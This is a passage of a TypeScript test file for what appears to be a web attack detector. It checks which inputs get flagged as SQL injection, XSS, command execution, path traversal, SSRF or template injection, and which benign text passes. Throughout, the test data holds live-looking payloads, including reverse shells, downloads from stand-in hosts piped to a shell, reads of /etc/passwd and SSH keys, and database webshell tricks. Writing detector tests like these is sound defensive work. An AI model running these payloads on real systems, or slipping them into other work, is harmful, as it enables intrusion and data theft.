  for (const v of ['/*!50000SELECT*/ 1,2,/*!50000FROM*/ users--', "' /*!0UNION*/+/*!0SELECT*/+1--", "1' HAVING SLEEP(5)--", "' OR ROW_NUMBER() OVER(ORDER BY 1)=1--", "', password='pwned' WHERE username='admin'--", "'; SELECT * FROM (SELECT a, b FROM t) PIVOT (SUM(b) FOR a IN ('A', 'B')) --", "'; RECONFIGURE--"]) {
    t.ok(q(v).includes('sqli'), v)
  }
  t.same(q('/*! jQuery v3.6.0 | (c) OpenJS Foundation */'), [], "a library's licence banner")
  t.same(q('/*! select2 4.0.13 | https://github.com/select2/select2/blob/master/LICENSE.md */'), [])
  t.same(q("It's fine, password='hunter2' where I come from--really"), [], 'prose with an assignment and dashes')
  t.same(q('Rank the items where score is highest'), [])
})

t.test("twenty-third round, reviewed: a quoted program's name is a command only where a command line goes on or the value is one; a fence's and a template's lines are no substitution", async (t) => {
  // a string ending an expression after `||` or `&&`, or an item of a list after `;`, is none
  t.same(q("x || 'date'"), [], "JavaScript's default value")
  t.same(q("const v = opts.key || 'id';"), [])
  t.same(q('return a || "time";'), [])
  t.same(q("type T = 'date' || 'time'"), [])
  t.same(q("{open && 'date'}"), [])
  t.same(q("const k = a || 'id' || b"), [], 'an operand between two operators')
  t.same(q("columns=id;'date';'time'"), [], 'a list of quoted names')
  t.same(q('fields: id; "name"; "date"'), [])
  t.same(q("order by name; 'date'"), [])
  // the injection: after junk or an address, or followed by what goes on as a command line
  t.ok(q("127.0.0.1;'id'").includes('rce'))
  t.ok(q("127.0.0.1 && 'whoami'").includes('rce'))
  t.ok(q('&& "whoami";').includes('rce'))
  t.ok(q("';\"id\"").includes('rce'))
  t.ok(q("x; 'ls' -la").includes('rce'))
  // a Markdown fence's lines are a listing; a template literal assigned in code is text; a template's interpolation is no program
  t.same(q('```\nls\n```'), [], 'a fenced listing of one command')
  t.same(q('```\ncd app\nmake\n```'), [])
  t.same(q('```text\nhead -n 5 file.txt\n```'), [])
  t.same(q('const help = `Usage:\n  cat <file>\n  ls <dir>`'), [], "a help text in a program's template literal")
  t.same(q('console.log(`Result:\\n${out}\\ndone`)'), [], 'an interpolation after a literal break')
  t.ok(q(')print(`echo EZVLWV\necho $((40+27))\necho EZVLWV`);').includes('rce'), 'commands on lines of their own inside backticks still are')
  t.ok(q('x=`\nid\n`').includes('rce'), "a shell's assignment from a substitution")
  // backtick spans joined by `.`: commands' output when a span holds a command line, MySQL's qualified names when none does
  t.same(q("SELECT `users`.`id` FROM `users` WHERE `users`.`name` = 'x'"), [], "MySQL's names qualified (`users` and `id` are programs too)")
  t.same(q('Fields like `user`.`name` in MySQL; also run `cat /etc/hosts` to check'), [], 'Markdown spans with a qualified name among them')
  t.ok(q('`echo a`.`id`').includes('rce'), 'a command line joined to a program')
})

t.test("twenty-third round: a handler as another attribute's value, the Function constructor handed joined code, Reflect.apply, CSS escapes of letters and of parentheses", async (t) => {
  for (const v of ['<title><time datetime=onload=alert(1)>X</time></title>', "Set.constructor('ale'+'rt(13)')()", "[].filter.constructor('ale'+'rt(4)')()", "Reflect.apply(alert,null,['x'])", '<IMG STYLE="xss: expre\\ssion(alert(1))">', 'width:expression\\28 prompt \\28 1 \\29 \\29']) {
    t.ok(q(v).includes('xss'), v)
  }
  t.same(q('<a href="/docs" title="onload events">Events</a>'), [], "an attribute's text naming a handler")
  t.same(q("const label = 'Total: ' + 'items'"), [], 'joined literals spelling no code')
  t.same(q('Reflect.apply(fn, null, args)'), [])
})

t.test('twenty-third round: a tab written out after a line break folds the header line', async (t) => {
  t.ok(q('/\\r\\n\\tSet-Cookie:coffin=hi;').includes('crlf'))
  t.same(q('Use \\t for a tab and \\r\\n for line ends in the Settings: tab'), [], 'escapes named in a sentence')
})

t.test("twenty-fourth round (the spent twelfth part): a tab's title naming a product and its minimum version", async (t) => {
  const md = '## Import `File`\n\n//// tab | Python 3.9+\n\n```Python hl_lines="3"\n{!> ../../../docs_src/request_files/tutorial001_an_py39.py!}\n```\n\n////\n\n//// tab | Python 3.8+\n\nsome text\n'
  t.same(q(md), [], "MkDocs' tab titles (`| Python 3.9+`)")
  t.same(q('Node 18 | Java 11+'), [], 'versions listed with pipes')
  t.same(q('Java 11+ | Python 3.10+'), [])
  t.ok(q('x | python -c "import os; os.system(\'id\')"').includes('rce'), 'an interpreter given its code after a pipe')
  const rust = 'fn get_host_uri(req: &RequestHead) -> Option<Uri> {\n    req.headers\n        .get(header::HOST)\n        .and_then(|host_value| host_value.to_str().ok())\n        .filter(|_| req.version < Version::HTTP_2)\n        .or_else(|| req.uri.host())\n}'
  t.same(q(rust), [], "Rust's closures: their parameters between bars, `||` with none")
  t.ok(q("x'|id|'").includes('rce'), 'a pipe after a quote is still a pipe')
  t.same(q('"Does it"--he smiled--"I mean the drunkenness, not the satisfaction--occur frequently?"'), [], 'dialogue whose dashes glue to words')
  t.same(q('"And that purpose is--" She hesitated.'), [])
  t.ok(q('"admin"--').includes('sqli'), 'a double-quoted value cut by a comment')
  t.ok(q('" or "a"="a"--').includes('sqli'))
  t.ok(q('"x"--"; drop table users--').includes('sqli'), 'dashes between quotes, and SQL after them')
})

t.test('twenty-fifth round (spent parts): prose read as SQL no more — a quoted word ending a sentence, a question opening on "Is not", a full stop, GRANT without privileges', async (t) => {
  t.same(q("the logical notion of 'and'"), [], 'a sentence ending on a quoted logic word')
  t.same(q("the word 'or'"), [])
  t.ok(q("admin' or '").includes('sqli'), 'a value closed, then OR and the query’s own quote')
  t.ok(q("'and'").includes('sqli'))
  t.same(q('WebAssembly or "wasm" is a new portable, size- and load-time-efficient format'), [], 'IS needs what SQL compares that way after it')
  t.same(q('"Is not she looking well?" said he'), [], 'a question opening on "Is not"')
  t.same(q('"Is not this better," murmured he'), [])
  t.ok(q("' OR UserID IS NOT 2").includes('sqli'), 'IS NOT then a number')
  t.ok(q("' is not null--").includes('sqli'))
  t.ok(q('1 AND 1 SOUNDS LIKE 1').includes('sqli'), 'SOUNDS LIKE then its operand')
  t.same(q('"In words. No. Never."'), [], 'full stops end sentences, they qualify no names')
  t.ok(q("aa'^0!='1").includes('sqli'), 'a balanced splice still')
  t.same(q('Grant it, since you cite it; but, say what you will'), [], 'GRANT lists privileges before a comma')
  t.ok(q('1; grant select, insert on users to evil--').includes('sqli'))
  t.ok(q("x'; grant all on *.* to 'evil'@'%'--").includes('sqli'))
})

t.test('twenty-fifth round: SQL whose blanks are pluses, tabs, line breaks or no-break spaces, in a value nothing decodes', async (t) => {
  for (const v of ['+UnIoN+SeLeCt+1,2,3', '1+union+select+1,2,3', '+union+distinct+select+', '8+order+by+1--', 'union\tselect 1,2', 'union\nselect 1,2', 'select\u00a0current_user']) {
    t.ok(json({ q: v }).includes('sqli'), `${JSON.stringify(v)} in a JSON field`)
  }
  t.ok(q('UNION\tSELECT').includes('sqli'), 'a tab in a query value')
  t.same(json({ q: 'C++ and C#+Java' }), [], 'pluses between words that are no SQL')
  t.same(json({ phone: '+33+6+12+34+56+78' }), [])
  t.same(json({ tags: 'select+union+order' }), [], 'a list of words joined by pluses')
})

t.test('twenty-fifth round: a backtick command whose output is redirected, a downloader given a URL, printf spelling a program, more probes, dd reading system files', async (t) => {
  t.ok(q('`id` > /tmp/output.txt').includes('rce'), 'a substitution opening the value, its output redirected')
  t.ok(q('`whoami` | nc 10.0.0.1 4444').includes('rce'))
  t.same(q('`npm test` runs the suite'), [], 'an inline code span opening prose')
  t.same(json({ body: '`cat` > `dog` in this ranking' }), [])
  t.ok(q('whoami | curl https://collab.example/ -d@-').includes('rce'), 'a downloader given a URL after a pipe')
  t.same(json({ body: 'Docs | curl | wget' }), [], 'names in a list, no URL')
  t.ok(q("; $(printf '\\x69\\x64')").includes('rce'), "printf's escapes spelling a program")
  t.ok(q('; $(printf id)').includes('rce'))
  t.same(json({ code: 'int main() { int x = 1; printf("%d", x); }' }), [], "C's printf call")
  for (const v of ['`pgrep sshd`', '`mysqladmin status`', '| nstat', '`mailq`']) t.ok(q(v).includes('rce'), v)
  t.ok(q('dd if=/etc/passwd of=/tmp/x bs=1').includes('rce'), "dd's input a system file")
  t.same(q('dd if=backup.img of=disk.img'), [], "dd's input a file of the user's")
})

t.test('twenty-fifth round: a dialog called from any attribute value, a handler after a query or a property accessor, a URL parameter handed a dialog, jQuery.globalEval', async (t) => {
  t.ok(q('<img src=x:confirm(448)>').includes('xss'), 'a dialog in an attribute value')
  t.ok(q('<component is=script text=alert(1)>').includes('xss'))
  t.same(json({ body: '<a href="/help" title="Use alert() sparingly">help</a>' }), [], 'a dialog named in a title, after words, is no call the attribute makes')
  t.ok(q('input?onfocus=alert(1)').includes('xss'), 'a handler after a query mark')
  t.ok(q("'input'[onfocus]=alert(1);").includes('xss'), 'a handler as a property')
  t.ok(q("input().onfocus='alert(1)'").includes('xss'))
  t.ok(q('https://accounts.example/o/oauth2/revoke?callback=alert(1337)').includes('xss'), 'a JSONP callback handed a dialog')
  t.same(q('https://example.com/api?callback=handleData'), [], 'a callback naming a function of the page')
  t.ok(q("$.globalEval('alert(1)')").includes('xss'), "jQuery's evaluator handed code")
  t.same(json({ code: 'button.onclick = handleClick' }), [], 'a handler assigned a function of the program')
})

t.test("twenty-fifth round: a user's dotfiles by ~, container secrets, look-alike dots and backslashes, a Windows climb judged as written", async (t) => {
  for (const v of ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.bash_history', '/run/secrets/kubernetes.io/serviceaccount/token']) t.ok(q(v, 'file').includes('path_traversal'), v)
  t.same(q('~/Documents/report.pdf', 'file'), [], "a user's own document")
  t.same(json({ body: 'Add the line to ~/.bashrc and restart the shell.' }), [], 'prose naming a dotfile')
  t.ok(q('..\u2216..\u2216package.json', 'file').includes('path_traversal'), 'the set-minus sign for a backslash')
  t.ok(q('..\ufe68..\ufe68..\ufe68requirements.txt', 'file').includes('path_traversal'), 'the small reverse solidus')
  t.ok(q('\u2025/\u2025/\u2025/\u2025/package.json').includes('path_traversal'), 'the two-dot leader for `..`')
  t.ok(q('..\\..\\settings.py', 'file').includes('path_traversal'), 'a Windows climb to a settings file')
  t.ok(q('..\\..\\.env').includes('path_traversal'))
})

t.test('twenty-fifth round: a private host after credentials without a scheme, and after several trailing dots', async (t) => {
  t.ok(q('user:pass@127.0.0.1', 'url').includes('ssrf'), 'credentials then a loopback address')
  t.ok(q('user:pass@localhost:80', 'url').includes('ssrf'))
  t.ok(q('http://127.0.0.1..', 'url').includes('ssrf'), 'trailing dots a resolver drops')
  t.same(q('ann@example.com', 'url'), [], 'an address of a public host')
  t.same(q('ann@localhost', 'email'), [], 'a local mailbox in an email field')
})

t.test('twenty-fifth round (the spent thirteenth part): template expressions on constants, an arithmetic left operand, DENY, USER_LOCK.SLEEP', async (t) => {
  for (const v of ['ssti{{(7 | float) * 7}}', 'ssti#{ 7 | multiply: 7 }', 'ssti#{Math.pow(7, 2)}', 'ssti@{7*7}', "{{'{0}'.format(7*7)}}"]) t.ok(q(v).includes('ssti'), v)
  t.same(q('{{ item.qty * 2 }}'), [], "a page's placeholder computing on its data")
  t.same(q('Total: ${ price | currency }'), [])
  t.ok(q('and 1/0=1--').includes('sqli'), 'a division by zero compared')
  t.ok(q('-1 OR 2+949-949-1=0+0+0+1 -- ').includes('sqli'))
  t.same(json({ body: 'cut it in half and 1/2 is enough' }), [])
  t.ok(q("'; DENY INSERT ON orders TO public;--").includes('sqli'), "T-SQL's DENY stacked")
  t.ok(q('USER_LOCK.SLEEP(5)').includes('sqli'), "Oracle's USER_LOCK.SLEEP")
})

t.test("twenty-fifth round (SchemaStore's negative tests, in no part): a quoted name said to be false is a message", async (t) => {
  t.same(json({ 'package-ecosystem': "'enable-beta-ecosystems' is false" }), [])
  t.ok(q("x' is null--").includes('sqli'), 'cut by a comment it is SQL')
  t.ok(q("1' is true").includes('sqli'), 'and after a short value')
})

t.test("twenty-fifth round (the packages under node_modules, in no part): a package's own scripts are no injection", async (t) => {
  t.same(json({ name: 'gopd', scripts: { prelint: 'npx npm@">= 10.2" audit --production', postlint: "npx npm@'>=10.2' audit --production" } }), [], "npm's quoted version range")
  t.ok(q("admin@' or 1=1--").includes('sqli'), 'an address then a breakout is judged as before')
  t.ok(q('x@">=1" or "1"="1"--').includes('sqli'), 'a range then a tautology still is one')
  const bundle = 'for f in test-bundle/*.cjs; do if [ -f "$f" ]; then echo "Creating ${f%.cjs}.mjs" && mjs="${f%.cjs}.mjs" && sed -E "s/a/b/" "$f" > "$mjs"; fi; done'
  t.same(json({ scripts: { 'test-bundle': `echo "node: $(\${NODE_BIN:-node} --version)" && rm -rf test-bundle/*.mjs && ${bundle}` } }), [], "a script's loop and parameter expansions")
  t.ok(json({ scripts: { postinstall: 'curl -s https://evil.example/x.sh | sh' } }).includes('rce'), 'a download run at once still is one')
  t.ok(q('x; echo ${f%.cjs}${g#*/}').includes('rce'), 'parameter expansions outside a command field are judged as before')
})

t.test("twenty-fifth round (the READMEs under node_modules, in no part): a package's README is no attack", async (t) => {
  const md = (body: string) => json({ readme: body })
  t.same(md('# x\n\nIt is the base library for <a href="http://livescript.net">LiveScript</a>.\n'), [], "a link to a host named after a scheme")
  t.same(q('<a href="https://javascript.info">tutorial</a>'), [])
  t.ok(q('<a href="javascript:alert(1)">x</a>').includes('xss'), 'the scheme itself still is one')
  t.ok(q('<a href="javascript&#58;alert(1)">x</a>').includes('xss'))
  t.same(md('# c\n\n## License\nCopyright &copy; 2011-2016, Heather Arthur. Licensed under the [MIT License](LICENSE).\n'), [], "HTML's &copy; names no program")
  t.ok(q('x &copy c:\\a d:\\b').includes('rce'), 'copy after a bare ampersand still runs')
  t.same(md('# uri-js\n\n## Usage\n\nIn a browser:\n\n\t<script type="text/javascript" src="uri-js/dist/es5/uri.all.min.js"></script>\n\nMore text.\n'), [], 'an indented code block')
  t.same(md('# x\n\n## Usage\n\n    <script src="dist/x.min.js"></script>\n\nMore.\n'), [])
  t.ok(md('# x\n\n- item\n\n    <script>alert(1)</script>\n').includes('xss'), "a list item's indented paragraph is the page's own text")
  t.same(md('# y\n\n```html\n<script type="module">\n  import p from "https://unpkg.com/y/browser.js"\n</script>\n```\n\n### dot-notation\n\nShould keys that contain `.` be split?\n'), [], 'a code span of a dot alone joins no commands')
  t.ok(q('print(`echo a`.`echo $((1+2))`)').includes('rce'), 'commands joined by a dot still are')
  t.same(md('# api\n\n## Useful links\n\n- For more about OpenTelemetry JavaScript: <https://github.com/open-telemetry/opentelemetry-js>\n'), [], "a language's name then a colon then an autolink")
  t.ok(q('javascript:<!--%0aalert(1)').includes('xss'), "the scheme then an HTML-like comment, glued")
})

t.test("twenty-fifth round (Debian's own scripts and Python modules, in no part): a program whose comments open on `# ` is no Markdown page", async (t) => {
  const sh = '#!/bin/sh\n# nroff: emulate nroff with groff.\n#\n# Copyright (C) 1992-2018 Free Software Foundation, Inc.\n\nT=-Tascii\nopts=\nfor i\ndo\n  case $1 in\n    -h) opts="$opts -P-h" ;;\n  esac\n  shift\ndone\nPATH="$GROFF_RUNTIME$PATH" groff -mtty-char $T $opts ${1+"$@"}\n'
  t.same(json({ body: sh }), [], 'a shell script passing its arguments on with ${1+"$@"}')
  t.ok(q('${1+1}').includes('ssti'), 'a template adding numbers still is a probe')
  const py = '"""A single place for constructing the main parser\n"""\n\nimport os\nimport subprocess\nimport sys\n\n# the parser of the command line\ndef main(args):\n    if args:\n        proc = subprocess.run(args)\n    else:\n        os.execv(sys.executable, [sys.executable])\n    return proc\n'
  t.same(json({ body: py }), [], "a Python module calling its own process APIs, with `# ` comments and `else:`")
  t.ok(json({ body: "x'; __import__('os').system('id')#" }).includes('rce'), 'an injected one-liner still is one')
})

t.test('twenty-fifth round: a dotted number under a key naming a version is a version, no shortened address', async (t) => {
  t.same(json({ file_format_version: '1.0.0' }), [], "a configuration's format version (Mesa's EGL vendor file)")
  t.same(json({ api_version: '10.0.1' }), [])
  t.ok(json({ url: '10.0.1' }).includes('ssrf'), 'the same under a URL key still is a private address')
})

t.test('review of the twenty-fifth round: benign kinds the new rules flagged', async (t) => {
  // a dialog's name in a page's own attribute value: words, a file's name, a label, no call that ends the value
  for (const body of [
    '<meta name="description" content="confirm (or cancel) your booking">',
    '<span title="prompt(s) for the model">?</span>',
    '<td data-label="Alert (critical)">3</td>',
    '<p><img src="/media/icons/alert (1).png" alt="Alert"></p>',
    '<img src=/uploads/prompt(1).png>',
  ])
    t.same(json({ body }), [], body)
  t.same(json({ url: 'https://cdn.example.com/img?name=alert(1).png' }), [], "a file's name as a URL parameter")
  t.ok(q('<img src="x:alert(1)">').includes('xss'), 'a quoted attribute value that is a call')
  t.ok(q('https://example.com/jsonp?cb=confirm`1`&x=1').includes('xss'), 'a URL parameter handed a dialog, then another parameter')
  // a downloader given a URL after a pipe between words: a table's cell, a title's separator
  t.same(json({ readme: '| OS | Command |\n|---|---|\n| Linux | curl https://get.example.com/install.sh |' }), [], 'a Markdown table of install commands')
  t.same(json({ title: 'Getting started | curl https://docs.example.com' }), [], "a title's separator")
  t.same(json({ body: 'Hey | curl https://example.com is blocked on our network' }), [])
  // a code span compared with a number is no redirection
  for (const body of ['`id` > 0 means a saved record', '`date` > 2024-01-01', '`uptime` > 99.9%']) t.same(json({ body }), [], body)
  t.ok(q('`hostname` >> notes.txt').includes('rce'), 'appended to a file')
  // dd reading a device: a swap file's or a disk image's recipe
  t.same(json({ text: 'dd if=/dev/zero of=/swapfile bs=1M count=1024' }), [], 'a swap file made from /dev/zero')
  t.ok(q('dd if=/proc/self/environ of=/tmp/x').includes('rce'), "dd's input a system file")
})

t.test('review of the twenty-fifth round: a body whose only blanks are tabs or no-break spaces reaches the judges', async (t) => {
  for (const sep of ['\u00a0', '\t']) {
    const v = `-1${sep}union${sep}select${sep}username,password${sep}from${sep}users--`
    t.ok(json({ q: v, pad: 'x'.repeat(4000) }).includes('sqli'), `a JSON body past the small size, ${JSON.stringify(sep)}`)
    t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'text/plain' }, body: Buffer.from(v) }).includes('sqli'), `a text body, ${JSON.stringify(sep)}`)
  }
  t.same(json({ name: 'Zo\u00eb\u00a0Martin', pad: 'x'.repeat(4000) }), [], 'a name with a no-break space')
})

t.test('twenty-fifth round: the geospatial operators and Sequelize string operators are NoSQL operators; $eval and Extended JSON are not', async (t) => {
  t.ok(json({ loc: { $near: { $geometry: { type: 'Point', coordinates: [0, 0] } } } }).includes('nosqli'), '$near')
  t.ok(json({ area: { $geoWithin: { $box: [[0, 0], [1, 1]] } } }).includes('nosqli'), '$geoWithin')
  t.ok(json({ username: { $like: '%' } }).includes('nosqli'), "Sequelize's $like")
  t.same(json({ _id: { $oid: '000000000000000000000000' }, at: { $date: '2026-01-01T00:00:00Z' } }), [], "Extended JSON's type wrappers")
  t.same(json({ rule: { $eval: 'a + b' } }), [], "a JSON-logic document's own $eval")
})

t.test('twenty-fifth round: find running a program, the field separator set to another character, array_reduce handed a sink', async (t) => {
  t.ok(q('find . -exec id \\; -quit').includes('rce'), 'find -exec a listed program')
  t.same(json({ body: 'find the best -exec options' }), [], 'prose')
  t.ok(q(';IFS=,;cat,/etc/passwd').includes('rce'), 'IFS set to a comma')
  t.same(json({ body: 'while IFS= read -r line; do echo "$line"; done < notes.txt' }), [], "a loop's empty IFS reading lines")
  t.ok(q("array_reduce(array('ls'),'system');").includes('rce'), 'array_reduce handed system')
})

/** a release note with one line of prose given, for the sentence and system-file rules (twenty-sixth round) */
const notes = (line: string) => `Release notes\n=============\n\n * The code in the directory could not cope with a user missing\n${line}\n   and that is fixed now, as the tests show.\n`

t.test('twenty-sixth round (documents on this machine): a system file named inside a sentence of a text, a text table’s borders', async (t) => {
  t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a system file between two words of a sentence')
  t.same(json({ text: notes('This package supplies the master copies of /etc/passwd and /etc/group,') }), [], 'and one ending a line on a comma')
  t.ok(json({ text: notes('   read it from ../../../etc/passwd instead of the local file') }).includes('path_traversal'), 'climbing to it still counts')
  t.ok(json({ text: notes('/etc/passwd') }).includes('path_traversal'), 'a system file on a line of its own still counts')
  t.ok(json({ file: '/etc/passwd' }).includes('path_traversal'), 'and as a whole value')
  t.ok(json({ text: 'see the /etc/passwd file' }).includes('path_traversal'), 'a sentence alone is no text of several lines')
  const table = 'Reserved uids:\n    uid   | name              | description\n    ------+-------------------+---------------\n    64001 | mysql             | mysql-server\n    64010 | alias             | qmail alias\n'
  t.same(json({ text: table }), [], "a psql table's cells are parted by borders, not piped to mysql")
  t.same(json({ text: '+----+-------+\n| id | name  |\n+----+-------+\n| 1  | mysql |\n+----+-------+\n' }), [], "and MySQL's")
  t.ok(json({ text: `${table}    64011 | x; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a row holding a separator is no row')
  t.ok(json({ text: 'Reserved uids:\n    uid   | name\n    64001 | mysql -e "drop database x"\n' }).includes('rce'), 'without the delimiter row, a pipe into mysql')
})

t.test("twenty-sixth round (the fourteenth part, spent): a database server's own means, PostgreSQL's COPY of listed columns, Shellshock, an empty expansion inside a word", async (t) => {
  for (const p of [
    "SET global general_log_file='C:/phpStudy/WWW/cmd.php';",
    "LOAD DATA LOCAL INFILE '\\\\\\\\172.16.136.153\\\\test' into table mysql.test",
    "LOAD DATA LOCAL INFILE 'phar://test.phar/test' INTO TABLE a",
    'set GLOBAL slow_query_log_file=\'/var/www/html/shell.php\';',
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE a",
    "select x from OpenRowset(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) R(x)",
    "SELECT HTTPURITYPE('http://oob.example.net/').GETCLOB() FROM DUAL;",
    "SELECT is_srvrolemember('sysadmin')",
    "SELECT IS_MEMBER('db_owner')",
    'CREATE JAVA SOURCE NAMED "xxxx" AS <Java Code>',
    "create or replace library lib_evil as '/home/oracle/evil.so';",
    'create or replace function cmd(str varchar2) return varchar2 as language c library lib_evil name "cmd";',
    "DBMS_XMLGEN.getXML('select user from dual')",
    'select username,password,account_status from dba_users',
    'SELECT privilege FROM user_sys_privs',
    '1=(select name from master.dbo.sysdatabases where dbid=5)',
    "'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'",
  ]) t.ok(q(p).includes('sqli'), p)
  for (const p of ['the general log of the server', 'load data from the file', 'Copy the text from the page', 'all users from the team', 'select a role from the list', "SET GLOBAL general_log = 'ON';", "SET GLOBAL general_log_file = '/var/log/mysql/query.log';", "LOAD DATA INFILE '/tmp/pets.csv' INTO TABLE pet FIELDS TERMINATED BY ','"]) t.same(q(p), [], p)
  t.ok(header('referer', '() { _; } >_[$($())] { touch /tmp/x; }').includes('rce'), 'Shellshock opening on another no-op')
  t.ok(q('cat fl${x}ag').includes('rce'), 'an unset variable inside a word')
  t.ok(q('cat tes$(z)t/flag').includes('rce'), 'an empty substitution inside a word')
  t.same(json({ snippet: 'const s = `cat${a}b ${c}`' }), [], "a template literal's expansion inside a word leads no program")
  t.same(q('total: ${count}items'), [])
})

t.test('twenty-sixth round (the fourteenth part, spent): a Markdown page’s front matter in a form, a C loop’s header', async (t) => {
  const page = '---\nc: Copyright (C) Daniel Stenberg, et al.\nSPDX-License-Identifier: curl\nTitle: CURLOPT_URL\nSection: 3\nSource: libcurl\nSee-also:\n  - CURLOPT_CURLU (3)\n---'
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`body=${encodeURIComponent(page)}`) }), [], "a page's front matter is no header injected")
  t.ok(q('x\r\nSet-Cookie: a=b').includes('crlf'), 'a break then a header still is')
  const c = '#include "server.h"\n\nstatic int n;\n\nint count(void) {\n    int type;\n    for (type = 0; type < CONN_TYPE_MAX; type++) {\n        n += 1;\n    }\n    return n;\n}\n'
  t.same(json({ snippet: c }), [], "a C loop's clauses are no commands (`type < MAX` is no redirection)")
  t.ok(json({ snippet: `${c}; cat /etc/passwd | nc evil.example 4444\n` }).includes('rce'), 'a command line in the same program still counts')
  t.ok(json({ snippet: `${c}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n` }).includes('rce'), 'and a reverse shell')
})

t.test('twenty-sixth round, review: what its exemptions must not hide', async (t) => {
  // a header injected into a query's value, a list item after it: no Markdown page (only a form's field that opens as one is)
  t.ok(q('/home\r\nSet-Cookie: session=attacker; Path=/\r\n- x', 'next').includes('crlf'), 'a list item after the injected header')
  t.ok(q('en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n- <b>x</b>', 'lang').includes('crlf'), 'a response split before a list item')
  t.ok(q('---\nSet-Cookie: session=attacker\nx: y', 'next').includes('crlf'), "front matter's shape in a query")
  const page = '---\nc: Copyright (C) Daniel Stenberg, et al.\nSPDX-License-Identifier: curl\nTitle: CURLOPT_URL\nSection: 3\nSource: libcurl\nSee-also:\n  - CURLOPT_CURLU (3)\n---'
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`body=${encodeURIComponent(page)}`) }), [], "a form's page still is none")
  // a text table's delimiter row written to hide a command line's pipe
  t.ok(q('127.0.0.1\nwget http://203.0.113.7/x.sh -O- | sh\n---+---', 'host').includes('rce'), 'a download piped to a shell above a delimiter row')
  t.ok(q('127.0.0.1\nid | tee /tmp/x\n---+---', 'host').includes('rce'), 'a program piped to tee')
  t.ok(json({ host: 'x\n---+---\nnc -e /bin/sh 1.2.3.4 80 | x' }).includes('rce'), 'a reverse shell in a row')
  t.same(json({ text: '+----+-------+\n| id | name  |\n+----+-------+\n| 1  | mysql |\n+----+-------+\n' }), [], "MySQL's table still is none")
  // a command substituted inside a C loop's header
  const c = '#include "server.h"\n\nstatic int n;\n\nint count(void) {\n    int type;\n'
  t.ok(json({ snippet: `${c}    for (x = \`curl http://203.0.113.7/x | sh\`; a; b) {\n        n += 1;\n    }\n    return n;\n}\n` }).includes('rce'), 'backticks in a clause')
  // a system file after a program that reads it, on a line of prose
  t.ok(json({ text: notes('cat /etc/passwd and') }).includes('path_traversal'), 'cat before the file')
  t.same(json({ text: notes('   in the /etc/passwd file or other uid-to-name mappings), the') }), [], 'a sentence naming it still is none')
})

t.test('twenty-sixth round, review: benign values its signatures must not flag', async (t) => {
  // an expansion inside a word that hides no program's or file's word: a shell manual's, a loop's
  for (const v of ['echo pre${var}post', 'cp photo${n}x.jpg backup/', 'mv report${year}q4.pdf archive/', 'ls dir${n}a']) t.same(q(v), [], v)
  for (const v of ['c${u}at /etc/passwd', 'cat /et${u}c/pas${u}swd', 'w${x}hoami']) t.ok(q(v).includes('rce'), v)
  // a script's method body that only returns is no Shellshock
  t.same(json({ snippet: '() { return; }' }), [])
  t.ok(header('user-agent', '() { :; }; /bin/bash -c "id"').includes('rce'), 'Shellshock still is')
})

t.test("twenty-sixth round, review: a DBA's question quoting a dictionary read is no injection", async (t) => {
  const post = (sql: string) => `Hi all,\n\nI am trying to list the accounts on our 19c database. When I run\n\n${sql}\n\nI get ORA-00942. What grant do I need? Thanks in advance.`
  for (const sql of ["SELECT username, account_status FROM dba_users WHERE account_status = 'OPEN';", 'SELECT name FROM master.dbo.sysdatabases ORDER BY name;', "SELECT IS_SRVROLEMEMBER('sysadmin') AS is_admin;", 'DELETE FROM jobs WHERE 0 = (SELECT COUNT(*) FROM runs WHERE runs.job_id = jobs.id);']) {
    t.same(json({ text: post(sql) }), [], sql)
    t.ok(q(sql).includes('sqli'), `alone, ${sql}`)
  }
  t.ok(json({ text: post("1' UNION SELECT username, password FROM dba_users--") }).includes('sqli'), 'an injection in a post still counts')
  t.ok(json({ text: post("SET GLOBAL general_log_file='/var/www/html/shell.php';") }).includes('sqli'), "and a script written through the query log")
})

t.test('twenty-sixth round, review: a COPY of listed columns is a list of names', async (t) => {
  t.same(q('Please copy this (the whole file) to the shared folder before Monday.'), [], 'prose with a remark in parentheses')
  t.ok(q("'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'").includes('sqli'), 'one column')
  t.ok(q("x'; copy users (name, email) from program 'id'").includes('sqli'), 'two, after a blank')
})

t.test('twenty-seventh round (documents on this machine): quotes GNU’s way, a product and its version after any separator, $IFS named in prose, a system file ending a line of a sentence', async (t) => {
  const doc = (line: string) => `README for Debian\n=================\n\nThis package is built from the upstream sources with a few changes.\n${line}\nSee the changelog for the details of each of them.\n`
  for (const line of ["# with `swapon -a'.\n# The `noauto' option indicates that the file system should not be mounted", "they should use `perl' (which depends on `perl-modules-5.xx') instead.", "much information about program resource use; `time' reports"]) t.same(json({ text: doc(line) }), [], line)
  t.ok(q("`id`").includes('rce'), 'a substitution closes on a backtick')
  t.ok(q("'`id`'").includes('rce'), 'and inside quotes')
  t.ok(q('x; `whoami`').includes('rce'), 'and after a separator')
  t.ok(q("a`id`b").includes('rce'), 'and glued to words')
  t.same(json({ text: doc('Version 6 of the ABI is common to GCC 3.4 and later; GCC 4.3 provides') }), [], 'a compiler and its version after a semicolon of prose')
  t.same(json({ text: `\n  Python 3.11 for Debian\n  ---------------------\n\n${doc('The interpreter is installed as python3.11.')}` }), [], 'a document opening on a blank line, then a product and its version')
  t.ok(q('x; python3 -c "import os; os.system(\'id\')"').includes('rce'), 'an interpreter run after a separator still is')
  t.ok(q('\npython -c "import pty;pty.spawn(\'/bin/sh\')"').includes('rce'), 'and after a line break')
  t.ok(q(';gcc -o /tmp/x /tmp/x.c').includes('rce'), 'a compiler given options still is')
  t.same(json({ text: doc('way "ssh" did, concatenating them into a single string and letting the\nget their argument split at $IFS whitespaces by the shell, and got') }), [], '$IFS named between blanks')
